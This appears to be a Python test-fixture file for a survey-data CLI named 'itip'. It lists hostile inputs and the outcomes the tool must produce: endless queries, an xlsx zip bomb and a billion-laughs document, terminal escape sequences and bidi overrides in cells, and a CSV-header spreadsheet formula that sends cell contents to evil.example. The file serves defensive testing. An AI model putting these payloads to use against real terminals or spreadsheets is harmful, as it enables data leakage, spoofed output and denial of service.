"""Attacks on the command line itself: a hung or huge query, Ctrl-C, a respondent .xlsx
zip bomb, terminal escape sequences and rich markup in data, spreadsheet formulas in
CSV headers, and failures that must end as one line with a documented exit code
(bad ITIP_* variables, a bad codebook, impossible options, a full disk, a closed pipe).

Each `Attack` is one `itip` invocation run in-process (typer's CliRunner) and the
outcome it must get; `PROCESS_ATTACKS` name the few that need a real process (a
signal, a pipe, peak memory), run by tests/integration/test_hostile_hcli.py. Every attack failed
on the main branch before issue 14's "Hung or exhausted" and "Terminal, spreadsheet
and error hygiene" work (a traceback, an escape sequence on the terminal, a crash on
`[/]`, no time limit, no option).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.hostile.cases import LAUGHS, Part, deflate, raw_zip, with_doctype

#: Characters that must never reach a terminal raw (ESC, CSI as one C1 character, BEL,
#: carriage return, the right-to-left override and isolate).
UNSAFE = ("\x1b", "\x9b", "\x07", "\r", "\u202e", "\u2067")
#: A statement that runs for hours unless stopped.
ENDLESS = "SELECT count(*) FROM range(10000000000000)"
#: A formula a spreadsheet would run when the CSV is opened, and the same as a quoted SQL name.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
FORMULA_NAME = '"' + FORMULA.replace('"', '""') + '"'


@dataclass(frozen=True)
class Attack:
    """One `itip` invocation and the outcome it must get.

    `{wh}` in `args` is a small warehouse file whose table `t` holds hostile text;
    `{trend}` a warehouse built by a real ingest of a release file with escape
    sequences and markup in its source (see HOSTILE_RELEASE); `{tmp}` the test's
    own folder."""

    id: str
    args: tuple[str, ...]
    #: The documented exit code (README, *Commands*).
    code: int
    #: Fragment of the one `itip: ...` line on stderr; None: stderr stays empty.
    message: str | None = None
    #: Fragments stdout must show, and must not show.
    shows: tuple[str, ...] = ()
    hides: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)
    stdin: bytes | None = None
    #: Prepares files in the test's folder before the command runs.
    setup: Callable[[Path], None] | None = None
    #: The codebook is replaced by this text (an analyst's broken edit).
    codebook: str | None = None
    #: Lines of stdout that must be exactly this many (a table cut at --max-rows), if set.
    stdout_lines: int | None = None
    #: The message is DuckDB's whole message, its hint lines included (`LINE 1: ...`).
    hint_lines: bool = False
    #: Runs a Prefect flow (`itip ingest`): needs the test Prefect server.
    prefect: bool = False


# --- what the attacks need -------------------------------------------------------------

#: Rows of table `t` in the `{wh}` warehouse: text an attacker can get into any cell.
HOSTILE_TEXT = {
    "clear": "\x1b[2Jx",
    "c1": "\x9b2J",
    "bidi": "abc\u202edef",
    "isolate": "x\u2067y",
    "overwrite": "safe\rEVIL",
    "title": "\x1b]0;pwned\x07",
    "close_tag": "[/]",
    "kept": "[see table 3]",
    "style": "[bold red]loud[/bold red]",
}

#: A published-figure release whose source carries an escape sequence, a bidi
#: override and rich markup: it passes every check and loads, so `itip trend` shows it.
HOSTILE_SOURCE = "https://example.org/itip [see table 3] [/] \x1b[2J\u202e"
HOSTILE_RELEASE = (
    "survey;indicator;value;n;source\n"
    f"innbyggere;trust_personal_data_safe;47;1000;{HOSTILE_SOURCE}\n"
    "innbyggere;trust_rights_safeguarded;52;1000;https://example.org/itip\n"
)


def respondent_xlsx(tmp: Path, sheet: Callable[[bytes], Part]) -> Path:
    """A real synthetic respondent workbook (itip synth) with its sheet replaced."""
    from itip.codebook import load_codebook
    from itip.synth import write_synthetic

    written = write_synthetic(load_codebook(), [2024], 30, tmp / "synth", 7, "xlsx")[0]
    with zipfile.ZipFile(io.BytesIO(written.read_bytes())) as archive:
        parts = {i.filename: archive.read(i) for i in archive.infolist()}
    name = "xl/worksheets/sheet1.xml"
    members = [sheet(data) if part == name else deflate(part, (data, 1)) for part, data in parts.items()]
    target = tmp / "itip_2024_respondents.xlsx"
    target.write_bytes(raw_zip(members))
    return target


def bomb_sheet(xml: bytes) -> Part:
    """280 MB of legal whitespace before the sheet's data, packed to well under 1 MB."""
    cut = xml.index(b"<sheetData>")
    return deflate("xl/worksheets/sheet1.xml", (xml[:cut], 1), (b" " * (1 << 20), 280), (xml[cut:], 1))


def laughs_sheet(xml: bytes) -> Part:
    return deflate("xl/worksheets/sheet1.xml", (with_doctype(xml, LAUGHS), 1))


def _bomb(tmp: Path) -> None:
    respondent_xlsx(tmp, bomb_sheet)


def _laughs(tmp: Path) -> None:
    respondent_xlsx(tmp, laughs_sheet)


def _encrypted(tmp: Path) -> None:
    # An OLE container, as Excel saves a password-protected workbook.
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    (tmp / "itip_2024_respondents.xlsx").write_bytes(head + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 2048)


def _release(tmp: Path) -> None:
    (tmp / "itip_2024.csv").write_text(
        "survey;indicator;value;source\ninnbyggere;trust_personal_data_safe;47;https://example.org\n", encoding="utf-8"
    )


def _full_target(tmp: Path) -> None:
    """A synth target whose file is /dev/full: every write fails with ENOSPC, as on a full disk."""
    (tmp / "out").mkdir()
    (tmp / "out" / "itip_2024_respondents.csv").symlink_to("/dev/full")


def _existing_file(tmp: Path) -> None:
    (tmp / "taken").write_text("not a folder\n", encoding="utf-8")


def _state_file(tmp: Path) -> None:
    (tmp / "state").write_text("not a folder\n", encoding="utf-8")


def _truncated(tmp: Path) -> None:
    """A warehouse cut off half-way, as a copy interrupted part of the way through."""
    import duckdb

    whole = tmp / "whole.duckdb"
    con = duckdb.connect(str(whole))
    con.execute("CREATE TABLE t AS SELECT range AS i, repeat('x', 200) || range AS s FROM range(100000)")
    con.close()
    data = whole.read_bytes()
    (tmp / "cut.duckdb").write_bytes(data[: len(data) // 2])


def _raw_and_junk(tmp: Path) -> None:
    """A release folder with one good file, and a warehouse that is not a DuckDB file."""
    (tmp / "raw").mkdir()
    _release(tmp / "raw")
    (tmp / "junk.duckdb").write_bytes(b"not a database " * 1000)


def sql(query: str, *extra: str) -> tuple[str, ...]:
    return ("sql", query, "--warehouse", "{wh}", *extra)


def cell(name: str) -> str:
    return f"SELECT s FROM t WHERE k = '{name}'"


ATTACKS: list[Attack] = [
    # --- hung or exhausted ---------------------------------------------------------------
    Attack("sql-time-limit", sql(ENDLESS, "--timeout", "1"), 3, message="time limit of 1 s"),
    Attack(
        "sql-table-row-limit",
        sql("SELECT range AS i FROM range(20000)"),
        0,
        message="showed the first 10,000 rows",
        stdout_lines=10_002,
    ),
    Attack("sql-max-rows-option", sql("SELECT * FROM range(1000000000000)", "--max-rows", "3"), 0, "first 3 rows"),
    Attack(
        "sql-csv-max-rows",
        sql("SELECT * FROM range(1000000000000)", "--csv", "--max-rows", "2"),
        0,
        message="first 2 rows",
        stdout_lines=3,
    ),
    Attack(
        "shell-time-limit",
        ("shell", "--warehouse", "{wh}", "--timeout", "1"),
        1,
        stdin=f"{ENDLESS};\nSELECT 42 AS answer;\n".encode(),
        shows=("time limit of 1 s", "42"),
    ),
    Attack(
        "shell-row-limit",
        ("shell", "--warehouse", "{wh}"),
        0,
        stdin=b"SELECT range AS i FROM range(20000);\n",
        shows=("(10000 rows shown; there are more",),
        hides=("\n10000",),
    ),
    Attack(
        "respondent-xlsx-zip-bomb",
        ("check", "{tmp}/itip_2024_respondents.xlsx"),
        1,
        setup=_bomb,
        shows=("unpacks", "ITIP_MAX_XLSX_COMPRESSION_RATIO"),
    ),
    Attack(
        "respondent-xlsx-billion-laughs",
        ("check", "{tmp}/itip_2024_respondents.xlsx"),
        1,
        setup=_laughs,
        shows=("document type declaration",),
    ),
    Attack(
        "respondent-xlsx-encrypted",
        ("check", "{tmp}/itip_2024_respondents.xlsx"),
        1,
        setup=_encrypted,
        shows=("password",),
    ),
    # --- terminal: escape sequences and markup from data ---------------------------------
    Attack("sql-clear-screen-in-cell", sql(cell("clear")), 0, shows=("\\x1b[2Jx",)),
    Attack("sql-c1-csi-in-cell", sql(cell("c1")), 0, shows=("\\x9b2J",)),
    Attack("sql-bidi-override-in-cell", sql(cell("bidi")), 0, shows=("abc\\u202edef",)),
    Attack("sql-bidi-isolate-in-cell", sql(cell("isolate")), 0, shows=("x\\u2067y",)),
    Attack("sql-carriage-return-overwrite", sql(cell("overwrite")), 0, shows=("safe\\rEVIL",)),
    Attack("sql-window-title-in-header", sql('SELECT 1 AS "\x1b]0;pwned\x07"'), 0, shows=("\\x1b]0;pwned\\x07",)),
    Attack("sql-markup-close-tag-in-cell", sql(cell("close_tag")), 0, shows=("[/]",)),
    Attack("sql-markup-in-cell-stays-visible", sql(cell("kept")), 0, shows=("[see table 3]",)),
    Attack("sql-markup-style-not-applied", sql(cell("style")), 0, shows=("[bold red]loud[/bold red]",)),
    Attack("sql-markup-in-header", sql('SELECT 1 AS "[/]", 2 AS "[see table 3]"'), 0, shows=("[/]", "[see table 3]")),
    Attack(
        "sql-error-echoes-escape",
        sql('SELECT "\x1b[2Jgone"'),
        1,
        message='Referenced column "\\x1b[2Jgone"',
        hint_lines=True,
    ),
    Attack("csv-formula-in-header", sql(f"SELECT 1 AS {FORMULA_NAME}", "--csv"), 0, shows=("'=HYPERLINK",)),
    Attack("csv-escape-in-cell", sql(cell("clear"), "--csv"), 0, shows=("\\x1b[2Jx",)),
    Attack(
        "trend-escape-and-markup-in-source",
        ("trend", "trust_personal_data_safe", "--warehouse", "{trend}"),
        0,
        shows=("[see table 3] [/] \\x1b[2J\\u202e",),
    ),
    Attack(
        "trend-csv-escape-in-source",
        ("trend", "trust_personal_data_safe", "--warehouse", "{trend}", "--csv"),
        0,
        shows=("\\x1b[2J\\u202e",),
    ),
    # --- one line and a documented exit code --------------------------------------------
    Attack(
        "env-not-a-number",
        ("check", "{tmp}/itip_2024.csv"),
        2,
        "ITIP_MAX_RELEASE_ROWS='ten' is not a whole number",
        env={"ITIP_MAX_RELEASE_ROWS": "ten"},
        setup=_release,
    ),
    Attack(
        "env-negative-limit",
        ("check", "{tmp}/itip_2024.csv"),
        2,
        "ITIP_MAX_RELEASE_BYTES='-5' is below",
        env={"ITIP_MAX_RELEASE_BYTES": "-5"},
        setup=_release,
    ),
    Attack(
        "env-lock-wait-nan", sql("SELECT 1"), 2, "ITIP_LOCK_WAIT_SECONDS='nan'", env={"ITIP_LOCK_WAIT_SECONDS": "nan"}
    ),
    Attack("env-lake-retries-float", sql("SELECT 1"), 2, "ITIP_LAKE_RETRIES='2.5'", env={"ITIP_LAKE_RETRIES": "2.5"}),
    Attack(
        "env-respondent-rows-listed",
        sql("SELECT 1"),
        2,
        "ITIP_PROBLEM_ROWS_LISTED='lots'",
        env={"ITIP_PROBLEM_ROWS_LISTED": "lots"},
    ),
    Attack(
        "env-prefect-server-typo",
        ("server", "status"),
        2,
        "ITIP_PREFECT_SERVER='temporay'",
        env={"ITIP_PREFECT_SERVER": "temporay"},
    ),
    Attack(
        "env-prefect-state-is-a-file",
        ("server", "status"),
        2,
        "is not a folder",
        env={"ITIP_PREFECT_STATE": "{tmp}/state"},
        setup=_state_file,
    ),
    Attack(
        "server-state-option-is-a-file",
        ("server", "stop", "--state", "{tmp}/state"),
        2,
        "is not a folder",
        setup=_state_file,
    ),
    Attack(
        "synth-absurd-respondent-count",
        ("synth", "--years", "2024", "-n", "99999999999999999999", "--out", "{tmp}/out"),
        2,
    ),
    Attack(
        "codebook-yaml-syntax",
        ("check", "{tmp}/itip_2024.csv"),
        1,
        "not valid YAML at line 2, column 1",
        setup=_release,
        codebook="indicators: [\n",
    ),
    Attack(
        "codebook-wrong-type",
        ("check", "{tmp}/itip_2024.csv"),
        1,
        "a value has the wrong type",
        setup=_release,
        codebook="surveys: {citizens: {}}\ntopics: {t: {}}\nindicators:\n  x: {survey: citizens, topic: t, "
        "label_no: x, label_en: x, aliases: [5]}\n",
    ),
    Attack("serve-port-out-of-range", ("serve", "--port", "99999", "--warehouse", "{tmp}/w.duckdb"), 2),
    Attack(
        "serve-unknown-time-zone",
        ("serve", "--timezone", "Mars/Olympus", "--raw", "{tmp}", "--warehouse", "{tmp}/w.duckdb"),
        2,
        "unknown time zone 'Mars/Olympus'",
    ),
    Attack(
        "synth-out-onto-a-file",
        ("synth", "--years", "2024", "-n", "5", "--out", "{tmp}/taken"),
        2,
        "exists and is not a folder",
        setup=_existing_file,
    ),
    Attack(
        "synth-disk-full",
        ("synth", "--years", "2024", "-n", "5", "--out", "{tmp}/out"),
        1,
        "No space left on device",
        setup=_full_target,
    ),
    Attack("sql-stdin-not-utf8", ("sql", "--warehouse", "{wh}"), 2, "not UTF-8", stdin=b"SELECT '\xff\xfe'"),
    Attack(
        "export-truncated-warehouse",
        ("export", "--format", "csv", "--out", "{tmp}/export", "--warehouse", "{tmp}/cut.duckdb"),
        1,
        "Could not read enough bytes",
        setup=_truncated,
    ),
    Attack(
        "ingest-into-garbage-warehouse",
        ("ingest", "--raw", "{tmp}/raw", "--warehouse", "{tmp}/junk.duckdb"),
        1,
        "not a valid DuckDB database file",
        setup=_raw_and_junk,
        prefect=True,
    ),
    Attack(
        "trend-on-a-file-that-is-no-warehouse",
        ("trend", "trust_personal_data_safe", "--warehouse", "{wh}"),
        1,
        "not an itip warehouse",
    ),
]


@dataclass(frozen=True)
class ProcessAttack:
    """An attack that needs a real `itip` process; run by the test of the same id."""

    id: str
    what: str


PROCESS_ATTACKS = [
    ProcessAttack("sql-ctrl-c", "SIGINT to a running `itip sql` ends it within about a second, exit 130"),
    ProcessAttack("sql-csv-streams", "`--csv` of 1.6 GB of rows streams with bounded peak memory"),
    ProcessAttack("sql-closed-pipe", "`itip sql --csv ... | head -1`: exit 141, nothing on stderr"),
    ProcessAttack("sql-output-disk-full", "stdout on a full disk (/dev/full): one line, exit 1"),
]
